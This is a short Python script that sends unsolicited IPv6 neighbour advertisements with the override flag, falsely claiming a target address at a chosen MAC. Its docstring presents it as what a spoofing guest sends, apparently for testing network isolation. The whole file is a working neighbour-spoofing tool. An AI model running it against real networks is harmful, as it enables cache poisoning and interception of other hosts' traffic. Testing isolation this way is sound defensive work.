#!/usr/bin/env python3
"""na_send.py IFACE SRC TARGET LLADDR: one unsolicited neighbour advertisement (override set)
to all nodes, from SRC, claiming TARGET at LLADDR: what a guest spoofing a neighbour sends.
The kernel fills in the ICMPv6 checksum of a raw ICMPv6 socket; hop limit 255 as RFC 4861
requires of every ND message."""
import socket
import struct
import sys


def main():
    iface, src, target, lladdr = sys.argv[1:5]
    mac = bytes.fromhex(lladdr.replace(":", ""))
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    # Not to the sender itself: only its neighbours are to hear the claim.
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    s.bind((src, 0, 0, socket.if_nametoindex(iface)))
    # type 136, code 0, checksum, flags: override; target; option 2 (target link-layer).
    msg = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + socket.inet_pton(socket.AF_INET6, target)
    msg += struct.pack("!BB", 2, 1) + mac
    for _ in range(2):
        s.sendto(msg, ("ff02::1", 0, 0, socket.if_nametoindex(iface)))


if __name__ == "__main__":
    main()
